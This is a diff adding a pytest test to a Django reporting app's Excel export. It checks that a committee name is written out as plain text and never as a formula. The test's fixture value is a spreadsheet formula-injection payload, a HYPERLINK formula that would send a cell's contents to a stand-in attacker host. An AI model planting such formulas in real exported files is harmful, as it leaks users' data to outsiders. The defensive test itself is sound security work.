@@ -3,6 +3,7 @@
 import datetime as dt
 import io
 
+import openpyxl
 import pytest
 from django.core.management import CommandError, call_command
 from django.test import Client
@@ -65,6 +66,20 @@ def test_foreign_figures_do_not_count(home, worker) -> None:
     factories.make_answered_case(home, worker, solved=True, satisfaction=4)
     stranger = factories.make_user("head", factories.make_community("乙社区").community)
     assert counts_at(stranger, home.community, MARCH).effective == 0
+
+
+def test_a_name_is_never_taken_for_a_formula(home, worker, head) -> None:
+    home.committee.name = '=HYPERLINK("http://evil.example/?"&B3,"居委会")'
+    home.committee.save()
+    factories.make_answered_case(home, worker, solved=True, satisfaction=5)
+    client = Client()
+    client.force_login(head)
+    file = client.get(reverse("reports:rates-export"), {"day": "2026-03-11"})
+    book = openpyxl.load_workbook(io.BytesIO(file.content))
+    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
+    assert home.committee.name in [cell.value for cell in cells]
+    assert {cell.data_type for cell in cells} <= {"s", "n"}
+    assert [cell.hyperlink for cell in cells if cell.hyperlink] == []
 
 
 def test_pages_and_export(home, worker, head) -> None:
